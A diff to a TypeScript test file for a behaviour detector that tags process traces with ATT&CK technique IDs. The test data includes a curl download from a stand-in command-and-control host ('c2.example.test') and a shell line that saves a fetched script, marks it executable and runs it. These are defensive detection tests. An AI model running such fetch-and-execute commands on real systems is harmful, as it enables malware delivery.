@@ -1,5 +1,5 @@
 import { spawnSync } from 'node:child_process';
-import { mkdtempSync, readFileSync, rmSync } from 'node:fs';
+import { copyFileSync, mkdtempSync, readFileSync, rmSync, writeFileSync } from 'node:fs';
 import { tmpdir } from 'node:os';
 import { join } from 'node:path';
 import { afterAll, describe, expect, it } from 'vitest';
@@ -140,7 +140,7 @@ describe('downloads and decoded payloads piped into interpreters', () => {
   });
 
   it('a shell redirection of curl into a file makes that file downloaded', () => {
-    const ids = new Trace()
+    const ids = new Trace('/bin/sh')
       .fork(SAMPLE, 701)
       .create(701, '/tmp/agent')
       .exec(701, '/usr/bin/curl', ['curl', '-s', 'http://c2.example.test/agent'])
@@ -148,6 +148,15 @@ describe('downloads and decoded payloads piped into interpreters', () => {
       .ids();
     expect(ids.get('execution.downloaded-file')).toEqual(['T1105']);
     expect(ids.has('execution.dropped-file')).toBe(false);
+  });
+
+  it('curl saving with -o leaves the file the shell last opened as written', () => {
+    const ids = new Trace('/bin/sh')
+      .create(SAMPLE, `${HOME}/tool`)
+      .run(701, '/usr/bin/curl', ['curl', '-o', 'page.html', 'http://www.example.test/'])
+      .run(702, `${HOME}/tool`, ['./tool'])
+      .ids();
+    expect(ids.has('execution.downloaded-file')).toBe(false);
   });
 
   it('curl piped into a JSON filter is not', () => {
@@ -257,5 +266,25 @@ describe('under the real strace', () => {
     const { ids } = judgeTrace(readFileSync(trace, 'utf8'), { home: dir });
     expect(ids.get('execution.written-shell-script')).toEqual(['T1059.004']);
     expect(ids.get('execution.decoded-shell')).toEqual(['T1140', 'T1059.004']);
+  });
+
+  it("a downloader's output redirected by the shell into a file, then run, is a downloaded file", () => {
+    // A stand-in named curl (a copy of cat) that "downloads" a local script: the shell opens the
+    // redirection in its child before the child becomes curl, as it does for `curl URL > file`.
+    copyFileSync('/bin/cat', join(dir, 'curl'));
+    writeFileSync(join(dir, 'remote'), '#!/bin/sh\necho fetched\n');
+    const trace = join(dir, 'trace-download');
+    const [strace, ...args] = straceArguments(parseAgentConfig({}, { allowInternet: false }), trace);
+    const run = spawnSync(
+      strace as string,
+      [...args, '/bin/sh', '-c', './curl < remote > agent; chmod +x agent; ./agent'],
+      {
+        cwd: dir,
+      },
+    );
+    expect(run.status).toBe(0);
+    const { ids } = judgeTrace(readFileSync(trace, 'utf8'), { home: dir });
+    expect(ids.get('execution.downloaded-file')).toEqual(['T1105']);
+    expect(ids.has('execution.dropped-file')).toBe(false);
   });
 });
